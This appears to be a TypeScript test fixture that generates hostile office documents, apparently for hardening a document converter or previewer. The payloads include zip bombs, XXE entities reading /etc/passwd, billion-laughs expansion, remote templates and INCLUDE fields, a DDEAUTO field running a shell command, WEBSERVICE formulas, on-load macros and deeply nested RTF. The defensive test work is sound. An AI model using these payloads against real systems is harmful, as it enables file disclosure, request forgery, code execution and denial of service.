import { laughs, MIB, noise, type Raw } from './hostile-parts.fixture.ts';
import {
  docx,
  docxParts,
  openDocumentParts,
  pptxParts,
  relations,
  type ZipFile,
  xlsx,
  xlsxParts,
  zip,
} from './samples.fixture.ts';

export function hostileArchives(url: string): Raw[] {
  const replaced = (parts: ZipFile[], name: string, content: string | Buffer, more: Partial<ZipFile> = {}) =>
    zip(parts.map((part) => (part.name === name ? { name, content, ...more } : part)));
  const word = docxParts(['Text']);
  const big = Buffer.alloc(80 * MIB, ' ');
  const nested = Array.from({ length: 6 }).reduce<Buffer>(
    (inner) => zip([{ name: 'inner.docx', content: inner }, ...word]),
    docx(['x']),
  );
  const xml = (head: string) =>
    `<?xml version="1.0"?>${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>`;
  const many = Array.from({ length: 6_000 }, (_, at) => ({ name: `f${at}`, content: '', stored: true }));
  return [
    { what: 'a document that unpacks to 80 MB', name: 'a.docx', content: replaced(word, 'word/document.xml', big) },
    {
      what: 'a document that says it is smaller than it is',
      name: 'b.docx',
      content: replaced(word, 'word/document.xml', Buffer.alloc(30 * MIB, ' '), { declared: 100 }),
    },
    { what: 'a document of archives in archives', name: 'c.docx', content: nested, rendered: true },
    { what: 'a document of six thousand parts', name: 'd.docx', content: zip([...word, ...many]) },
    { what: 'a document with two parts of a name', name: 'e.docx', content: zip([...word, ...word]) },
    { what: 'a document that breaks off', name: 'f.docx', content: zip(word).subarray(0, 700) },
    {
      what: 'a document with an entity elsewhere',
      name: 'g.docx',
      content: replaced(
        word,
        'word/document.xml',
        xml(`<!DOCTYPE x SYSTEM "${url}/docx.dtd" [<!ENTITY x SYSTEM "${url}/entity">]>`),
      ),
      rendered: true,
    },
    {
      what: 'a document with an entity of this machine',
      name: 'h.docx',
      content: replaced(word, 'word/document.xml', xml('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
      rendered: true,
      repeats: true,
    },
    {
      what: 'a document of a billion laughs',
      name: 'i.docx',
      content: replaced(word, 'word/document.xml', xml(`<!DOCTYPE x [${laughs()}<!ENTITY x "&l12;">]>`)),
      rendered: true,
    },
    {
      what: 'a workbook that unpacks to 80 MB',
      name: 'a.xlsx',
      content: replaced(xlsxParts([['x']]), 'xl/worksheets/sheet1.xml', big),
      repeats: true,
    },
    {
      what: 'a workbook with a cell at its last corner',
      name: 'b.xlsx',
      content: Buffer.from(
        zip(
          xlsxParts([['x']]).map((part) => ({
            ...part,
            content: String(part.content).replace('r="A1"', 'r="XFD1048576"').replace('<row r="1"', '<row r="1048576"'),
          })),
        ),
      ),
      rendered: true,
    },
    {
      what: 'a presentation that unpacks to 80 MB',
      name: 'a.pptx',
      content: replaced(pptxParts(['x']), 'ppt/slides/slide1.xml', big),
      repeats: true,
    },
    {
      what: 'a text document that unpacks to 80 MB',
      name: 'a.odt',
      content: replaced(openDocumentParts('text', ''), 'content.xml', big),
    },
    {
      what: 'an archive that calls itself a document',
      name: 'j.docx',
      content: zip([{ name: 'a.txt', content: 'x' }]),
    },
  ];
}

export function hostileDocuments(url: string): Raw[] {
  const word = docxParts(['Text']);
  const link = (type: string, target: string) => relations([{ id: 'r9', type, target, external: true }]);
  const field = (code: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const withBody = (inner: string) =>
    word.map((part) =>
      part.name === 'word/document.xml'
        ? { ...part, content: String(part.content).replace('<w:body>', `<w:body>${inner}`) }
        : part,
    );
  const shape = (target: string) =>
    `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:90pt"><v:imagedata r:id="r9" src="${target}"/></v:shape></w:pict></w:r></w:p>`;
  const picture = (target: string, more = '') =>
    withBody(shape(target) + more).map((part) =>
      part.name === 'word/_rels/document.xml.rels' ? { ...part, content: link('image', target) } : part,
    );
  const template = [
    {
      name: 'word/settings.xml',
      content:
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r9"/></w:settings>',
    },
    { name: 'word/_rels/settings.xml.rels', content: link('attachedTemplate', `${url}/t.dotm`) },
  ];
  const others =
    field(`INCLUDETEXT "${url}/t.docx"`) +
    field(`INCLUDEPICTURE "${url}/p.png" \\d`) +
    field('DDEAUTO /bin/sh "touch /tmp/owned"');
  const odt = (body: string) => zip(openDocumentParts('text', `<office:text>${body}</office:text>`));
  const frame = (target: string) =>
    `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>`;
  const section = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners><text:section text:name="s"><text:section-source xlink:href="${url}/s.odt" text:filter-name="writer8"/><text:p>x</text:p></text:section>`;
  const sheet = `<office:spreadsheet><table:table table:name="S"><table:table-source xlink:href="${url}/t.ods" table:filter-name="calc8" table:refresh-delay="PT1S"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}/ods&quot;)"/></table:table-row></table:table></office:spreadsheet>`;
  return [
    {
      what: 'a document with a picture, a template and other documents elsewhere',
      name: 'n.docx',
      content: zip([...picture(`${url}/docx.png`, others), ...template]),
      rendered: true,
    },
    {
      what: 'a text document with pictures and a section elsewhere, pictures of this machine and a macro',
      name: 'd.odt',
      content: odt(section + frame(`${url}/odt.png`) + frame('file:///etc/passwd')),
      rendered: true,
    },
    {
      what: 'a document with a picture elsewhere',
      name: 'k.docx',
      content: zip(picture(`${url}/docx.png`)),
      rendered: true,
      repeats: true,
    },
    {
      what: 'a document whose template is elsewhere',
      name: 'l.docx',
      content: zip([...word, ...template]),
      rendered: true,
      repeats: true,
    },
    {
      what: 'a document that includes others',
      name: 'm.docx',
      content: zip(withBody(others)),
      rendered: true,
      repeats: true,
    },
    {
      what: 'a workbook that asks a web service',
      name: 'c.xlsx',
      content: xlsx([[`=WEBSERVICE("${url}/xlsx")`, `=_xlfn.WEBSERVICE("${url}/xlsx2")`, `=HYPERLINK("${url}/h")`]]),
      rendered: true,
    },
    {
      what: 'a presentation with a picture elsewhere',
      name: 'b.pptx',
      content: zip(
        pptxParts(['x']).map((part) =>
          part.name === 'ppt/slides/_rels/slide1.xml.rels'
            ? { ...part, content: link('image', `${url}/pptx.png`) }
            : {
                ...part,
                content: String(part.content).replace(
                  '<a:solidFill><a:srgbClr val="FFCC00"/></a:solidFill>',
                  '<a:blipFill><a:blip r:link="r9"/></a:blipFill>',
                ),
              },
        ),
      ),
      rendered: true,
    },
    {
      what: 'a text document with pictures elsewhere and of this machine',
      name: 'b.odt',
      content: odt(frame(`${url}/odt.png`) + frame('file:///etc/passwd')),
      rendered: true,
      repeats: true,
    },
    {
      what: 'a text document with a section elsewhere and a macro',
      name: 'c.odt',
      content: odt(section),
      rendered: true,
      repeats: true,
    },
    {
      what: 'a spreadsheet linked to one elsewhere',
      name: 'a.ods',
      content: zip(openDocumentParts('spreadsheet', sheet)),
      rendered: true,
    },
    {
      what: 'a rich text with a picture, an object and a template elsewhere',
      name: 'a.rtf',
      content: `{\\rtf1{\\*\\template ${url}/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/rtf.png" \\\\d}{\\fldrslt x}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata 0105}}Text}`,
      rendered: true,
    },
    {
      what: 'a rich text fifty thousand groups deep',
      name: 'b.rtf',
      content: `{\\rtf1 ${'{'.repeat(50_000)}x${'}'.repeat(50_000)}}`,
      rendered: true,
    },
    {
      what: 'an old document of noise',
      name: 'a.doc',
      content: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(20_000)]),
      rendered: true,
    },
    {
      what: 'a page of the web that calls itself a document',
      name: 'b.doc',
      content: `<html><body><img src="${url}/html.png"><iframe src="${url}/frame"></iframe></body></html>`,
    },
  ];
}
